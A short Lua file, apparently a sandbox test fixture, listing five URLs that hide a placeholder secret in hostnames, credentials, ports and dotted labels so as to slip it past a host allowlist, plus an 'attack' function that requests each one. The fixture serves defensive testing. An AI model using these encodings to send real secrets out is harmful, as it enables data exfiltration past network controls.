-- A secret as a name below the one that is granted: below it, beside it, as its
-- credentials, at another port, and as a name of many labels.
local urls = {
    "http://s3cr3t.allowed.example/", "http://s3cr3t-allowed.example/", "http://s3cr3t@allowed.example.s3cr3t.example/",
    "http://allowed.example:8053/s3cr3t", "http://s.3.c.r.3.t.allowed.example/",
}

function attack(variant)
    return "ok", gm.http_request({ method = "GET", url = urls[variant + 1] }).status
end
